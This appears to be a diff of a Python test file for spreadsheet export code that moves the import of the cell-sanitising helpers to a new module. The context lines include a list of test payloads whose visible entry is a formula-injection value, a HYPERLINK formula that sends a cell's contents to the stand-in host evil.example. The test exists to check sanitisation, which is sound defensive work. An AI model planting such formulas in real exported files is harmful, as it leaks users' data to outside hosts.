@@ -16,10 +16,10 @@ import pytest
 from openpyxl import load_workbook
 
 from serai.core import downloads
-from serai.core.cells import FORMULA_STARTS, safe_cell
 from serai.core.i18n import TranslatedText
 from serai.core.testing import body as body_of
 from serai.projects.tests.conftest import energy, make_project, roles, walk  # noqa: F401 (fixtures)
+from serai.trade.cells import FORMULA_STARTS, safe_cell
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
